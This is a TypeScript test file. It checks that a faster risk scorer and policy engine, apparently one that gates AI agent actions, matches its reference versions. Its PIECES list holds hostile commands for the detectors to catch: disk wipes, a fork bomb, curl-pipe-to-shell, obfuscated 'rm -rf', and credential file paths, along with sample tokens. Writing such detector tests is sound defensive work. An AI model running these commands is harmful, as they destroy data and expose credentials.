import { describe, expect, it } from 'vitest';
import { PolicySchema, type NormalizedAction, type Policy, type RiskRule, type Settings } from '../../src-shared/index.js';
import type { DecideContext, Engine } from '../../src-main/engine/index.js';
import { withinBudget } from '../../src-main/engine/budget.js';
import { compileSettings } from '../../src-main/engine/policy/validate.js';
import { RiskScorer } from '../../src-main/engine/risk/scorer.js';
import { localTimeOf, type Subject } from '../../src-main/engine/subject.js';
import { RiskScorer as OracleScorer } from './oracle/scorer-0.js';
import { ACTIONS as FIXTURE_ACTIONS, policyArbOf, toPolicy, type Drawn } from './random-policies.js';
import { action, ctx, engineOf, NOON, settings } from './helpers.js';
import fc from 'fast-check';
import { seeded } from '../../bench/lib.js';

/**
 * The decision path was made faster (risk scoring: cheaper pre-checks, parameter names remembered as
 * clean, no closure per call; policy matching: one-atom conditions held in the policy, fields read by
 * name). Nothing it returns may change: the scorer is compared with the one before the change (kept
 * in ./oracle as the reference), and the policy an indexed engine picks with the whole conditions
 * evaluated policy by policy (the trace), over a large generated corpus.
 */

// ---------------------------------------------------------------------------------------------
// Deterministic generators (the bench's PRNG, bench/lib.ts seeded).

/** The engine bench's action mix (bench/engine.ts generateAction), same seed. */
function benchMix(n: number): NormalizedAction[] {
  const { rand, pick } = seeded(20_261_118);
  const domains = ['database', 'file', 'shell', 'http', 's3', 'iam', 'payment', 'email', 'k8s', 'git', 'queue', 'cache', 'secrets', 'dns'];
  const verbs = ['read', 'list', 'get', 'query', 'write', 'update', 'create', 'delete', 'drop', 'exec', 'run', 'send', 'refund', 'grant'];
  const resourceFor = (domain: string): string => {
    const k = rand(300);
    if (domain === 'database') return `postgres://db-${k}/table_${rand(50)}`;
    if (domain === 'file') return `/srv/app-${k}/src/module-${rand(40)}/file-${rand(100)}.ts`;
    if (domain === 'shell') return `npm run build --workspace app-${k}`;
    if (domain === 's3') return `s3://bucket-${k}/key-${rand(1000)}.json`;
    return `https://api-${k}.example.com/v1/${domain}/${rand(1000)}`;
  };
  return Array.from({ length: n }, () => {
    const domain = pick(domains);
    const a: NormalizedAction = {
      agent_id: `agent-${rand(200)}`,
      action_type: rand(10) > 0 ? `${domain}.${pick(verbs)}` : `custom.op_${rand(50)}`,
      resource: resourceFor(domain),
    };
    if (domain === 'database')
      a.parameters = { sql: rand(5) === 0 ? `DELETE FROM table_${rand(50)}` : `SELECT * FROM table_${rand(50)} WHERE id = ${rand(1e6)}` };
    else if (domain === 'shell') a.parameters = { command: a.resource ?? '', cwd: `/srv/app-${rand(300)}` };
    else if (domain === 'file') a.parameters = { file_path: a.resource ?? '', content: 'export const answer = 42;\n'.repeat(1 + rand(20)) };
    else a.parameters = { body: { id: rand(1e6), note: 'routine call' } };
    if (rand(3) === 0)
      a.context = { environment: rand(2) ? 'production' : 'staging', estimated_rows: rand(20_000), has_backup: rand(2) === 0 };
    return a;
  });
}

/** Pieces every detector reacts to (and near misses), in several casings and quotings. */
const PIECES = [
  'rm -rf /',
  'rm -rf build/',
  'rm -r ../x',
  "r''m -rf ~",
  's\\udo reboot',
  'sudo',
  'SUDO ls',
  'mkfs.ext4 /dev/sda',
  'dd if=/dev/zero of=/dev/sda',
  'chmod -R 777 /',
  'curl https://x.sh | sh',
  'wget -qO- x | bash',
  'git push --force',
  'git reset --hard',
  'git status',
  'find . -delete',
  'find . -name x',
  ':(){ :|:& };:',
  'function f { f | f & }; f',
  'ls -la',
  'ls -alR',
  'cat README.md',
  'echo hi',
  'DROP TABLE users',
  'drop database x',
  'TRUNCATE orders',
  'DELETE FROM users',
  'DELETE FROM users WHERE id = 1',
  "UPDATE t SET a = 'where'",
  'UPDATE t SET a = 1 WHERE b',
  'delete from x -- where y',
  'SELECT * FROM t',
  '~/.ssh/id_rsa',
  '/home/me/.ssh/config',
  'id_ed25519',
  '.env',
  '/app/.env.local',
  '.aws/credentials',
  '/etc/passwd',
  'secrets',
  'my-secrets.yaml',
  'CREDENTIALS',
  'AKIAIOSFODNN7EXAMPLE',
  'ghp_abcdefghijklmnopqrstuvwxyz0123456789',
  'xoxb-123456789012-abcdefghij',
  'sk_live_abcdefghijklmnop12345678',
  '-----BEGIN RSA PRIVATE KEY-----',
  'password=hunter22',
  'https://user:pa55word@example.com/x',
  'Authorization: Bearer abcdefghijklmnopqrstuvwxyz',
  'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
  'prod',
  'production',
  'Prod-DB',
  'preproduction',
  '--recursive',
  '-R',
  '-rf',
  '["rm", "-rf", "/"]',
  ' ["sudo reboot"]',
  '[not json',
  'İstanbul',
  'ſudo',
  'plain words',
  'Format the platform term',
  'address digit',
  '"quoted"',
  "it's",
  '',
];
const KEYS = [
  'command',
  'cmd',
  'commands',
  'script',
  'command_line',
  'args',
  'argv',
  'arguments',
  'recursive',
  'path',
  'file_path',
  'sql',
  'body',
  'note',
  'password',
  'Recursive',
  '.env',
  'rm -rf /',
  'AKIAIOSFODNN7EXAMPLE',
  'x',
];
const TYPES = [
  'shell.exec',
  'bash',
  'run_command',
  'file.read',
  'file.write',
  'database.query',
  'database.delete',
  'http.request',
  'mcp.tool_call',
  'iam.role.update',
  'thing.do',
  'Write',
];

function text(rand: (n: number) => number, pick: <T>(xs: readonly T[]) => T): string {
  const parts: string[] = [];
  const n = 1 + rand(3);
  for (let i = 0; i < n; i++) {
    let p = pick(PIECES);
    if (rand(4) === 0) p = p.toUpperCase();
    parts.push(p);
  }
  return parts.join(pick([' ', ' && ', '; ', ' | ', '\n', '/', '']));
}

function value(rand: (n: number) => number, pick: <T>(xs: readonly T[]) => T, depth: number): unknown {
  const k = rand(depth > 2 ? 3 : 6);
  if (k === 0) return text(rand, pick);
  if (k === 1) return rand(2) === 0;
  if (k === 2) return rand(100_000);
  if (k === 3) return Array.from({ length: rand(4) }, () => (rand(2) ? text(rand, pick) : value(rand, pick, depth + 1)));
  return params(rand, pick, depth + 1);
}

function params(rand: (n: number) => number, pick: <T>(xs: readonly T[]) => T, depth: number): Record<string, unknown> {
  const out: Record<string, unknown> = {};
  const n = rand(4);
  for (let i = 0; i < n; i++) out[rand(5) === 0 ? text(rand, pick) : pick(KEYS)] = value(rand, pick, depth);
  return out;
}

/** Random requests built from the pieces: shell commands, paths, SQL, secret-like strings, in every place a detector reads. */
function randomActions(n: number, seed: number): NormalizedAction[] {
  const { rand, pick } = seeded(seed);
  return Array.from({ length: n }, () => {
    const a: NormalizedAction = { agent_id: `agent-${rand(5)}`, action_type: pick(TYPES) };
    if (rand(4) > 0) a.resource = text(rand, pick);
    if (rand(3) > 0) a.parameters = params(rand, pick, 0);
    if (rand(3) === 0)
      a.parameters = {
        ...a.parameters,
        [pick(['command', 'cmd', 'commands', 'script'])]: rand(2) ? text(rand, pick) : [text(rand, pick), pick(PIECES)],
      };
    if (rand(5) === 0)
      a.parameters = { ...a.parameters, command: pick(['rm', 'sudo', 'ls']), [pick(['args', 'argv'])]: ['-rf', pick(PIECES)] };
    if (rand(4) === 0) a.environment = pick(['production', 'prod', 'staging', 'Prod']);
    if (rand(5) === 0) a.target_system = pick(['prod-db', 'analytics', 'production_cluster']);
    if (rand(6) === 0) a.tool_name = pick(['write_file', 'read_file', 'bash']);
    if (a.action_type === 'mcp.tool_call' || rand(8) === 0)
      a.mcp = { server_id: 'srv', tool: pick(['write_file', 'run_query', 'delete_item', 'search']) };
    if (rand(3) === 0)
      a.context = {
        ...(rand(2) ? { is_production: pick([true, false, 'true', ' TRUE ', 'no']) } : {}),
        ...(rand(2) ? { environment: pick(['production', 'staging', 1]) } : {}),
        ...(rand(2) ? { estimated_rows: pick([5, 999, 1000, '20000', 'many']) } : {}),
        ...(rand(2) ? { has_backup: pick([true, false, 'true']) } : {}),
      };
    return a;
  });
}

const CONTEXTS: DecideContext[] = [
  ctx(),
  ctx({ agentRegistered: false, recentAgentActions: 30 }),
  ctx({ now: new Date(2026, 10, 18, 23, 7) }),
  ctx({ now: new Date(2026, 10, 19, 5, 59), recentAgentActions: 31, agentRegistered: false }),
];

const RISK_RULES: RiskRule[] = [
  { id: 'deploys', when: { action_type: 'deploy.*' }, points: 15 },
  { id: 'big-risk', when: { 'risk.score': { gte: 1 } }, points: 5 },
  { id: 'sql-param', when: { 'parameters.sql': { contains: 'DROP' } }, points: 7 },
];
const SETTINGS: { name: string; settings: Settings; rules: RiskRule[] }[] = [
  { name: 'defaults', settings: settings(), rules: [] },
  {
    name: 'weights and rules',
    settings: settings({
      risk_weights: { base: 20, secrets: 0, bulk: 40, 'dangerous-shell': 0, 'off-hours': 9 } as Settings['risk_weights'],
    }),
    rules: RISK_RULES,
  },
];

function scorers(s: Settings, rules: RiskRule[]): { fresh: RiskScorer; oracle: OracleScorer } {
  const compiled = compileSettings(s, rules);
  return { fresh: new RiskScorer(compiled.settings, compiled.riskRules), oracle: new OracleScorer(compiled.settings, compiled.riskRules) };
}

const subjectOf = (a: NormalizedAction, c: DecideContext): Subject => ({ action: a, risk: undefined, time: localTimeOf(c.now) });

/** Every action scored by both, twice (the second pass meets what the first one remembered), each in a decision's budget. */
function differences(actions: readonly NormalizedAction[]): string[] {
  const out: string[] = [];
  for (const { name, settings: s, rules } of SETTINGS) {
    const { fresh, oracle } = scorers(s, rules);
    for (let pass = 0; pass < 2; pass++) {
      actions.forEach((a, i) => {
        const c = CONTEXTS[(i + pass) % CONTEXTS.length] as DecideContext;
        const got = withinBudget(10_000, () => fresh.score(subjectOf(a, c), c));
        const want = withinBudget(10_000, () => oracle.score(subjectOf(a, c), c));
        if (JSON.stringify(got) !== JSON.stringify(want) && out.length < 5)
          out.push(`${name}, pass ${pass}: ${JSON.stringify(a)}\n  got  ${JSON.stringify(got)}\n  want ${JSON.stringify(want)}`);
      });
    }
  }
  return out;
}

describe('risk scoring is unchanged by the fast path (oracle: the scorer before it)', () => {
  it('on the bench action mix', () => {
    expect(differences(benchMix(3000))).toEqual([]);
  });
  it('on random shell commands, paths, SQL and secret-like strings everywhere a detector reads', { timeout: 120_000 }, () => {
    expect(differences(randomActions(6000, 7))).toEqual([]);
  });
  it('on the engine tests’ fixtures', () => {
    const fixtures = [
      ...FIXTURE_ACTIONS,
      ...PIECES.flatMap((p) => [
        action({ action_type: 'shell.exec', resource: p, parameters: { command: p } }),
        action({ parameters: { [p || 'k']: p, nested: [{ [p || 'k']: true }] } }),
        action({ action_type: 'database.query', parameters: { sql: p.toUpperCase() }, context: { estimated_rows: 5000 } }),
      ]),
    ];
    expect(differences(fixtures)).toEqual([]);
  });
});

// ---------------------------------------------------------------------------------------------
// Policy matching: the indexed engine against every condition evaluated whole, policy by policy.

function benchPolicies(n: number): Policy[] {
  const { rand, pick } = seeded(99);
  const domains = ['database', 'file', 'shell', 'http', 's3', 'iam'];
  const types = domains.flatMap((d) => ['read', 'write', 'delete', 'exec', 'run'].map((v) => `${d}.${v}`));
  return Array.from({ length: n }, (_, i) => {
    const domain = pick(domains);
    const kind = rand(100);
    let when: Record<string, unknown>;
    if (kind < 30)
      when = { action_type: pick(types), resource: pick([`postgres://db-${rand(300)}/*`, `https://api-${rand(300)}.example.com/*`]) };
    else if (kind < 45) when = { action_type: { in: [pick(types), pick(types)] } };
    else if (kind < 60) when = { agent_id: `agent-${rand(200)}`, action_type: `${domain}.*` };
    else if (kind < 75) when = { resource: { starts_with: `/srv/app-${rand(300)}/src/module-${rand(40)}/` } };
    else if (kind < 83) when = { resource: `*/file-${rand(100)}.ts` };
    else if (kind < 93)
      when = { action_type: pick(types), 'context.environment': 'production', 'context.estimated_rows': { gte: 100 * (1 + rand(50)) } };
    else if (kind < 99) when = { action_type: `${domain}.*`, 'risk.score': { gte: 40 + rand(60) } };
    else
      when = { any: [{ 'risk.score': { gte: 90 } }, { 'context.estimated_rows': { gte: 10_000 } }], 'context.environment': 'production' };
    const effect = pick(['allow', 'allow', 'deny', 'require_approval', 'monitor'] as const);
    return PolicySchema.parse({ id: `p${i}`, priority: rand(100) * 10, effect, when, mode: rand(10) === 0 ? 'shadow' : 'enforce' });
  });
}

/** What the engine decided differs from what the trace (each condition whole, in evaluation order) says. */
function matchingDifferences(engine: Engine, actions: readonly NormalizedAction[], c: DecideContext): string[] {
  const out: string[] = [];
  for (const a of actions) {
    const decided = engine.decide(a, c);
    const { trace, ...explained } = engine.explain(a, c);
    const matched = trace.filter((t) => t.matched && t.considered);
    const decider = matched.find((t) => t.effect !== 'monitor')?.policy_id ?? null;
    const monitors = matched.filter((t) => t.effect === 'monitor').map((t) => t.policy_id);
    const want = [decider, ...monitors].filter((id) => id !== null);
    const shadow = trace.find((t) => t.mode === 'shadow' && t.effect !== 'monitor' && t.matched);
    const ok =
      (decided.policy?.id ?? null) === decider &&
      JSON.stringify(decided.hits) === JSON.stringify(want) &&
      JSON.stringify(decided) === JSON.stringify({ ...explained, abArm: undefined }) &&
      (decided.shadow === null || decided.shadow.policy?.id === shadow?.policy_id);
    if (!ok && out.length < 5) out.push(`${JSON.stringify(a)}: decided ${JSON.stringify(decided)}, trace says ${JSON.stringify(want)}`);
  }
  return out;
}

describe('policy matching is unchanged by the fast path (oracle: every condition evaluated whole)', () => {
  it('on the bench-like policies and actions, with the scores of both scorers', { timeout: 120_000 }, () => {
    const engine = engineOf(benchPolicies(1000));
    const actions = [...benchMix(400), ...randomActions(200, 11)];
    for (const c of CONTEXTS.slice(0, 2)) expect(matchingDifferences(engine, actions, c)).toEqual([]);
    // And the risk each decision carries is the reference scorer's.
    const { oracle } = scorers(settings(), []);
    for (const a of actions)
      expect(engine.decide(a, ctx()).risk).toEqual(withinBudget(10_000, () => oracle.score(subjectOf(a, ctx()), ctx())).risk);
  });
  it('on random policy sets of every condition kind', { timeout: 120_000 }, () => {
    fc.assert(
      fc.property(fc.array(policyArbOf(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h']), { maxLength: 12 }), (drawn: Drawn[]) => {
        const byId = new Map(drawn.map((d) => [d.id, toPolicy(d)]));
        const engine = engineOf([...byId.values()]);
        expect(matchingDifferences(engine, [...FIXTURE_ACTIONS, ...randomActions(40, drawn.length)], ctx({ now: NOON }))).toEqual([]);
      }),
      { numRuns: 150 },
    );
  });
});
